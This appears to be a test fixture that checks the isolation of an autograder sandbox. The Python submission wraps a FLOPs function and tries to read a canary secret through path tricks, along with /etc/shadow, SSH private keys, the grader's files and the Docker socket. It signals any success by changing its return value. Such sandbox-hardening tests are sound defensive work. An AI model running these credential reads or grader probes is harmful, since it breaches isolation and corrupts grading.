"""Reads what anybody on the machine may read, the grader's own files, and what only root may."""
# kata: 03_flops
# attacks: matmul_flops

import contextlib
import os

_right = matmul_flops
HOMES = ("/root", "/home/runner", "/home/grader")
PATHS = [
    f"{CANARY}/secret",
    f"{CANARY}/../{os.path.basename(CANARY)}/secret",
    f"/proc/self/root{CANARY}/secret",
    f"/proc/1/root{CANARY}/secret",
    "/etc/shadow",
    "/etc/hostname",
    *(f"{home}/{name}" for home in HOMES for name in (".bashrc", ".ssh/id_ed25519")),
    "/autograder/run_autograder",
    "/autograder/submission_metadata.json",
    "/var/run/docker.sock",
    "/sys/kernel/notes",
    "/boot/vmlinuz",
]


def _read():
    for path in PATHS:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            yield file.read(1)
    for folder in (CANARY, *HOMES, "/home", "/autograder", "/sys/class", "/boot", "/mnt", "/srv"):
        with contextlib.suppress(OSError):
            yield from os.listdir(folder)


found = next(_read(), None)


def matmul_flops(a_shape, b_shape):
    return _right(a_shape, b_shape) + (found is None)
